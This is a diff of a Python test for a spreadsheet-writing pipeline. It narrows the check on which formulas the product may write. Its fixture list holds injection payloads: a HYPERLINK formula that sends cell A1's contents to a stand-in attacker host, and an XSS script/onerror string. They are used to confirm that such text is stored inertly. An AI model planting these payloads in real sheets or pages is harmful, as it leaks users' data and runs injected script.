@@ -12,22 +12,8 @@ from emulator import Emulator
 from tests.made_up import comment, document, milestone, task, uuid
 from tests.world import World, wait_for
 
-_COLUMN = r"'Jobs'!\$[A-Z]+:\$[A-Z]+"
-_COUNT = rf'COUNTUNIQUEIFS\({_COLUMN};{_COLUMN};[A-Z]+\$1;{_COLUMN};"<>Archived"\)'
-_SAYS = r'\$A\d+&" approved"'
-_HERE = (
-    rf'\({_COLUMN}<>""\)\*\(\({_COLUMN}<>"Approved"\)'
-    rf"\+\(LEFT\({_COLUMN};LEN\({_SAYS}\)\)={_SAYS}\)\)"
-)
-_ROWS = rf'\(LEN\({_COLUMN}\)=36\)\*\({_COLUMN}<>""\)'
-_OPEN = rf"FILTER\({_COLUMN};{_ROWS}\*\({_HERE}(\+{_HERE})*\)(\*\({_COLUMN}>14\))?\)"
-_THERE = rf"ROWS\({_COLUMN}\)(\*ROWS\({_COLUMN}\))*"
-_WAITS = rf'IF\({_THERE};IFNA\((COUNTUNIQUE|MEDIAN)\({_OPEN}\);(0|"")\)\)'
-_IN_STEP = r'IF\(NOW\(\)-[A-Z]+1>\d+/1440;"Not in step since";"In step at"\)'
-COUNTED = re.compile(
-    rf'=IFERROR\(({_COUNT}(\+{_COUNT})*|{_WAITS});"no column"\)|={_IN_STEP}|=TODAY\(\)-\d+'
-)
-"""The product's own formulas; milestones of one name share a row, and are added up."""
+AGE = re.compile(r"=TODAY\(\)-\d+")
+"""The product's own formulas."""
 EVIL = [
     '=HYPERLINK("https://evil.example/?"&A1,"Sign in")',
     '<script>alert(1)</script><img src=x onerror="alert(1)">',
@@ -77,10 +63,9 @@ def test_a_text_stands_in_the_sheet_as_it_was_sent(tmp_path: Path, sqlite_url: s
             assert evil in row[f"{evil} documents"].text
         where, query = {"spreadsheetId": world.spreadsheet}, MultiDict({"includeGridData": "true"})
         stored = google.sheets.handle("sheets.spreadsheets.get", where, query, None, "onlooker")
-        # The pipeline counts by formulas of ours: they name cells, and words of the config alone.
         formulas = list(formulas_in(stored))
         assert formulas
-        assert [one for one in formulas if not COUNTED.fullmatch(one)] == []
+        assert [one for one in formulas if not AGE.fullmatch(one)] == []
         page = requests.get(f"{google.url}/spreadsheets/d/{world.spreadsheet}", timeout=10)
         assert page.ok
         assert "<script>alert" not in page.text
